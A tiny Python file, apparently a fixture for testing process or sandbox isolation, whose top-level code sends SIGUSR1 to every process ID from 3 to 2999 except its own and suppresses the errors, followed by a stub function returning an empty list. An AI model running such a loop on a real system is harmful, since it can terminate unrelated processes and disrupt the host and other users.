"""Signals every process that it can name.
own: any
"""
import os, signal
for pid in [-1, *range(3, 3000)]:
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGUSR1 if pid > 0 else 0)
        except OSError: pass
def code(words):
    return []
